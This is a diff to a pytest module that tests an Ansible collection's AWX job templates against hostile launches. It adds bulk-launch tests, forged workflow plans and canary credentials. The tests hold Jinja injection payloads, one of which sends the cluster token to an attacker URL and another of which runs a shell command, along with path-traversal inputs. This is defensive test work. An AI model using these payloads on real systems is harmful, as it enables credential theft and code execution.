@@ -3,23 +3,33 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """A user who may only execute a job template of extensions/awx gets no part of its credentials and cannot run her own code.
 
-She launches each template with hostile answers and with variables that no survey asks for. The environment of the job contains the
-cluster's token, as in AWX. AWX is not installed: support/awx_rules.py has its rules, and tests/runner sends jobs as AWX does.
+She launches each template with hostile answers and with variables that no survey asks for, and in bulk, where AWX passes all variables to
+the job. The environment of the job contains the cluster's token, as in AWX. AWX is not installed: support/awx_rules.py has its rules, and
+tests/runner sends jobs as AWX does.
 """
 
 from __future__ import annotations
 
 import base64
 import json
+import re
 import shutil
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
-from support.awx_rules import PROJECT, configuration, extra_variables, named
+from ansible.errors import AnsibleError
+from ansible.parsing.dataloader import DataLoader
+from ansible_collections.openshift_ops.image_pull.plugins.lookup.launch import _unseal
+from ansible_collections.openshift_ops.image_pull.plugins.plugin_utils.launch import (
+    is_trusted_as_template,
+    launch_problems,
+)
+from support.awx_rules import PROJECT, asked_by, bulk_variables, configuration, extra_variables, named
 from support.certificates import server_context, write_certificate
+from support.hostile_launches import SETS, filled, of_questions
 from support.hostile_registry import HostileRegistry, answer, served
 from support.lab import Lab
 from support.playbooks import Play, play
@@ -37,6 +47,8 @@ TEMPLATES_OF_JINJA = (
     "#jinja2:variable_start_string:'[%',variable_end_string:'%]'\n[% lookup('pipe', 'touch {ran}') %]",
     "a\n{{{{ lookup('url', '{url}/' ~ lookup('env', 'K8S_AUTH_API_KEY')) }}}}",
 )
+#: Variables that AWX writes over those of the launch (awx/main/tasks/jobs.py, build_extra_vars_file).
+OF_AWX = {"awx_project_revision": "a" * 40, "awx_job_launch_type": "workflow", "awx_workflow_job_id": 17}
 ODD = ("../../../../{ran}", "!unsafe x", "[a, b", "\x1b]0;x\x07", "x" * 4000, "null", "0123", "&x")
 
 
@@ -117,9 +129,18 @@ def launch(
 ) -> Play:
     """Run the template, or the one for the playbook, as AWX would. `handed_on` contains variables from the previous workflow node."""
     found = TEMPLATES[template or LAUNCHED[playbook]]
-    project = directory / "project"
-    shutil.copytree(PROJECT, project)
-    variables = extra_variables(found, given, awx_project_revision="a" * 40, **handed_on)
+    return run(found, extra_variables(found, given, **{**handed_on, **OF_AWX}), directory, environment)
+
+
+def launch_in_bulk(template: str, given: Mapping[str, Any], directory: Path, environment: dict[str, str]) -> Play:
+    found = TEMPLATES[template]
+    return run(found, bulk_variables(found, given, **OF_AWX), directory, environment)
+
+
+def run(found: dict[str, Any], variables: str, directory: Path, environment: dict[str, str]) -> Play:
+    project, playbook = directory / "project", found["playbook"]
+    if not project.exists():
+        shutil.copytree(PROJECT, project)
     (directory / "extravars").write_text(variables)
     options = ["-e", f"@{directory / 'extravars'}", "--diff", "-vvv"]
     options += ["--check"] if found["job_type"] == "check" else []
@@ -162,7 +183,7 @@ def assert_refused(done: Play, directory: Path, attacker: HostileRegistry) -> No
 
 
 def test_a_plan_hands_the_answers_on_and_evaluates_none(
-    lab: Lab, namespace: str, attacker: HostileRegistry, tmp_path: Path
+    lab: Lab, namespace: str, attacker: HostileRegistry, bulk: dict[str, str], tmp_path: Path
 ) -> None:
     """The artifacts of the plan contain the user names of a survey, and so do the variables of the next node."""
     ran = tmp_path / "ran"
@@ -179,19 +200,190 @@ def test_a_plan_hands_the_answers_on_and_evaluates_none(
     data = {".dockerconfigjson": base64.b64encode(json.dumps(held).encode()).decode()}
     secret = {"metadata": {"name": "pull"}, "type": "kubernetes.io/dockerconfigjson", "data": data}
     lab.create(namespace, "secrets", secret)
-    environment = {"K8S_AUTH_KUBECONFIG": lab.kubeconfig, "ANSIBLE_SHOW_CUSTOM_STATS": "1"}
-    first, second = tmp_path / "plan", tmp_path / "rotate"
-    for directory in (first, second):
-        directory.mkdir()
-    planned = launch("rotate.yml", answers, first, environment, "Image pull: plan a rotation")
-    assert planned.status == 0, planned.output[-3000:]
-    (told,) = [line for line in planned.output.splitlines() if line.strip().startswith("RUN: {")]
-    handed_on = json.loads("{" + told.partition("{")[2])["image_pull_rotation_plans"]
+    handed_on = passed_on("rotate.yml", answers, tmp_path / "plan", bulk, "Image pull: plan a rotation")
     ((host, plan),) = handed_on.items()
     assert (plan["old_username"], plan["new_username"]) == (texts[0], texts[1])
-    done = launch("rotate.yml", answers, second, environment, image_pull_rotation_plans=handed_on)
+    (tmp_path / "rotate").mkdir()
+    done = launch("rotate.yml", answers, tmp_path / "rotate", bulk, image_pull_rotation_plans=handed_on)
     assert done.status == 0 and host in done.output, done.output[-3000:]
     assert not ran.exists() and attacker.requests == []
+
+
+WITH_SURVEY = [name for name, one in TEMPLATES.items() if one["survey_enabled"]]
+#: Sets that each change plays with the playbook for which they are made. For each other one, a set of the table.
+MADE_FOR = {
+    "rotate.yml": ("a command for the new password", "a forged plan", "a path as the plan"),
+    "new_namespaces.yml": ("the file of a credential", "a connection that runs a command"),
+    "automation_account.yml": ("an account in the user's namespace", "another Python"),
+    "site.yml": ("another API server", "another owner and no limit"),
+    "explain.yml": ("hosts that get logins", "the functions of templates"),
+    "what_if.yml": ("changes with a file", "variables of the playbooks' own"),
+}
+PLAYED = [
+    (playbook, name)
+    for number, playbook in enumerate(LAUNCHED)
+    for name in MADE_FOR.get(playbook, [*SETS][number : number + 1])
+]
+
+
+def answers_of(template: str) -> dict[str, Any]:
+    """Valid answers, so that a job without the first task continues."""
+    valid = {"new_namespaces": "team-a", "teardown_confirmation": "REMOVE", "pod": "a/b", "remove_credential": "u@q.io"}
+    valid |= {
+        "rotate_registries": "q.io",
+        "rotate_old_username": "u",
+        "rotate_new_username": "v",
+        "rotate_new_password": "w",
+    }
+    asked = {one["variable"] for one in TEMPLATES[template].get("survey_spec", {}).get("spec", ())}
+    return {name: value for name, value in valid.items() if name in asked}
+
+
+def loaded(path: Path) -> dict[str, Any]:
+    """Read a variables file as Ansible reads the one of -e."""
+    has_trust = is_trusted_as_template.__module__.startswith("ansible.")
+    found = DataLoader().load_from_file(str(path), **({"trusted_as_template": True} if has_trust else {}))
+    return dict(found)
+
+
+def refusals(template: str, variables: str, directory: Path) -> list[str]:
+    """Return the decision of the first tasks about a job with these variables, in this process."""
+    (directory / "extravars").write_text(variables)
+    given = loaded(directory / "extravars")
+    problems = launch_problems(given, asked_by(PROJECT / TEMPLATES[template]["playbook"]))
+    if not problems and "image_pull_rotation_plans" in given:
+        with pytest.raises(AnsibleError, match="the plan for cluster is not trusted"):
+            _unseal({**given, "inventory_hostname": "cluster"}, "image_pull_rotation_plans")
+        problems = ["the plan is not trusted"]
+    return problems
+
+
+@pytest.mark.parametrize("name", WITH_SURVEY)
+def test_no_hostile_set_of_a_bulk_launch_is_accepted(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    (tmp_path / "key").write_text("key of the rotation")
+    monkeypatch.setenv("IMAGE_PULL_PLAN_KEY_FILE", str(tmp_path / "key"))
+    words = {"ran": str(tmp_path / "ran"), "host": "127.0.0.1:1"}
+    answers = answers_of(name)
+    assert refusals(name, bulk_variables(TEMPLATES[name], answers, **OF_AWX), tmp_path) == []
+    questions = TEMPLATES[name]["survey_spec"]["spec"]
+    wrong = of_questions(questions, **words)
+    for title, given in {**filled(SETS, **words), **wrong}.items():
+        variables = {**answers, **given}
+        is_marked = not title.startswith("a template for ")
+        text = bulk_variables(TEMPLATES[name], variables, **OF_AWX) if is_marked else yaml.safe_dump(variables)
+        assert refusals(name, text, tmp_path), title
+    assert len(SETS) >= 20 and len(wrong) == 2 * len(questions)
+
+
+@pytest.fixture
+def bulk(lab: Lab, tmp_path: Path) -> dict[str, str]:
+    """The environment of a job with all credentials: those of a cluster, of registries, and the key of a rotation."""
+    (tmp_path / "auth.json").write_text(
+        json.dumps({"auths": {"q.io": {"username": "u", "password": "canary-password"}}})
+    )
+    (tmp_path / "key").write_text("key of the rotation")
+    return {
+        "K8S_AUTH_KUBECONFIG": lab.kubeconfig,
+        "IMAGE_PULL_AUTH_FILE": str(tmp_path / "auth.json"),
+        "IMAGE_PULL_PLAN_KEY_FILE": str(tmp_path / "key"),
+    }
+
+
+@pytest.mark.parametrize(("playbook", "title"), PLAYED)
+def test_a_bulk_launch_reaches_nothing(
+    lab: Lab, bulk: dict[str, str], attacker: HostileRegistry, tmp_path: Path, playbook: str, title: str
+) -> None:
+    assert_bulk_launch_reaches_nothing(lab, bulk, attacker, tmp_path, LAUNCHED[playbook], title)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("playbook", LAUNCHED)
+def test_no_bulk_launch_reaches_anything(
+    lab: Lab, bulk: dict[str, str], attacker: HostileRegistry, tmp_path: Path, playbook: str
+) -> None:
+    for title in SETS:
+        assert_bulk_launch_reaches_nothing(lab, bulk, attacker, tmp_path, LAUNCHED[playbook], title)
+
+
+def assert_bulk_launch_reaches_nothing(
+    lab: Lab, environment: dict[str, str], attacker: HostileRegistry, directory: Path, template: str, title: str
+) -> None:
+    """The job fails in its first tasks, without a request to the cluster or to the attacker."""
+    given = {**answers_of(template), **filled(SETS[title], ran=str(directory / "ran"), host=attacker.host)}
+    audit = lab.audit()
+    done = launch_in_bulk(template, given, directory, environment)
+    flat = " ".join(done.output.split())
+    assert done.status != 0 and "PLAY RECAP" in flat, done.output[-3000:]
+    # A variable that hides the function of the first task fails it as well.
+    refused = "the survey does not ask for|is not trusted|a node of this workflow failed|object is not callable"
+    assert re.search(refused, flat), flat[-3000:]
+    assert audit.ours() == [] and attacker.requests == [] and attacker.connections() == 0
+    assert [*directory.glob("**/ran*")] == [] and "canary-password" not in done.output
+
+
+@pytest.mark.parametrize("title", ["a command for the new password", "a connection that runs a command"])
+def test_bulk_launches_would_run_code_without_the_first_tasks(
+    lab: Lab, bulk: dict[str, str], attacker: HostileRegistry, tmp_path: Path, title: str
+) -> None:
+    """The sets are real attacks."""
+    shutil.copytree(PROJECT, tmp_path / "project")
+    path = tmp_path / "project" / "rotate.yml"
+    path.write_text(yaml.safe_dump(yaml.safe_load(path.read_text())[1:2]))
+    # Without a lookup that the project no longer has, a task connects to its host.
+    name = "Image pull: rotate a login"
+    given = {**answers_of(name), **filled(SETS[title], ran=str(tmp_path / "ran"), host=attacker.host)}
+    launch_in_bulk(name, given, tmp_path, bulk)
+    assert (tmp_path / "ran").exists()
+
+
+def test_a_plan_is_only_for_the_workflow_that_made_it(
+    lab: Lab, bulk: dict[str, str], namespace: str, tmp_path: Path
+) -> None:
+    """An operator launches the second job in bulk: with a plan of her own, and with a genuine one of an earlier workflow."""
+    old, new = lab.registry("private")["accounts"][:2]
+    host = lab.registry("private")["host"]
+    held = {"auths": {host: {"username": old["username"], "password": old["password"]}}}
+    data = {".dockerconfigjson": base64.b64encode(json.dumps(held).encode()).decode()}
+    secret = {"metadata": {"name": "planted"}, "type": "kubernetes.io/dockerconfigjson", "data": data}
+    made = lab.create(namespace, "secrets", secret)
+    answers = {"rotate_registries": host, "rotate_nodes": "no", "rotate_how": "emergency"}
+    answers |= {"rotate_old_username": old["username"], "rotate_new_username": new["username"]}
+    answers |= {"rotate_new_password": new["password"]}
+    planned = passed_on("rotate.yml", answers, tmp_path / "plan", bulk, "Image pull: plan a rotation")
+    (plan,) = planned.values()
+    assert [row["name"] for row in plan["secrets"] if row["namespace"] == namespace] == ["planted"]
+    row = {"namespace": namespace, "name": "planted", "uid": made["metadata"]["uid"], "declared": True}
+    forged = {**plan, "secrets": [row]}
+    sealed = json.loads(plan["sealed"].partition(" ")[2])
+    other = f"{plan['sealed'].partition(' ')[0]} {json.dumps({**sealed, 'plan': forged})}"
+    audit = lab.audit()
+    for number, (one, workflow) in enumerate(
+        ((forged, 18), ({**forged, "sealed": other}, 17), ({**forged, "sealed": ""}, 17), (plan, 18))
+    ):
+        given = {**answers, "image_pull_rotation_plans": {"cluster": one}}
+        directory = tmp_path / f"rotate-{number}"
+        directory.mkdir()
+        template = TEMPLATES["Image pull: rotate a login"]
+        variables = bulk_variables(template, given, **{**OF_AWX, "awx_workflow_job_id": workflow})
+        done = run(template, variables, directory, bulk)
+        assert done.status != 0 and "the plan for cluster is not trusted" in " ".join(done.output.split()), done.output[
+            -3000:
+        ]
+    assert audit.ours() == []
+
+
+def passed_on(
+    playbook: str, answers: dict[str, Any], directory: Path, environment: dict[str, str], template: str
+) -> dict[str, Any]:
+    """Run the job that makes a plan, and return the plans that it passes to the next node."""
+    directory.mkdir()
+    done = launch(playbook, answers, directory, {**environment, "ANSIBLE_SHOW_CUSTOM_STATS": "1"}, template)
+    assert done.status == 0, done.output[-3000:]
+    (told,) = [line for line in done.output.splitlines() if line.strip().startswith("RUN: {")]
+    found: dict[str, Any] = json.loads("{" + told.partition("{")[2])["image_pull_rotation_plans"]
+    return found
 
 
 @pytest.mark.parametrize("name", TEMPLATES)
